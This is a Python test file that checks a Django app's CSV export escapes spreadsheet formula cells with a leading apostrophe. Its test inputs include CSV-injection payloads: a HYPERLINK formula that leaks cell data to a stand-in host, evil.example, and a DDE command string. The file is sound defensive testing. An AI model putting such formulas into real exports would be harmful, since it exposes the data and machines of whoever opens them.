"""CSV exports neutralise cells a spreadsheet would run as formulas (core.exports)."""

import csv
import io

import pytest

from core.exports import csv_writer, neutralise_cell
from tests.deliverables.factories import DeliverableFactory, GroupFactory

pytestmark = pytest.mark.django_db


@pytest.mark.parametrize(
    ("typed", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        ),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("Security for the metaverse", "Security for the metaverse"),
        ("FGMV-12", "FGMV-12"),
        ("", ""),
        (None, ""),
    ],
)
def test_a_cell_beginning_like_a_formula_gets_an_apostrophe(typed, written):
    assert neutralise_cell(typed) == written


def test_the_writer_neutralises_every_cell_and_streams_rows():
    buffer = io.StringIO()
    csv_writer(buffer).writerow(["=1+1", "plain"])

    assert buffer.getvalue() == "'=1+1,plain\r\n"
    assert csv_writer().writerow(["@x"]) == "'@x\r\n"


def test_the_matrix_csv_carries_no_formula_a_spreadsheet_would_run(client):
    owner = GroupFactory(code="FG-MV")
    DeliverableFactory(
        code="FGMV-66", owner=owner, title='=HYPERLINK("http://evil.example/","Click")'
    )

    response = client.get("/matrix.csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    (row,) = [row for row in rows if row[0] == "FGMV-66"]
    assert row[1] == '\'=HYPERLINK("http://evil.example/","Click")'
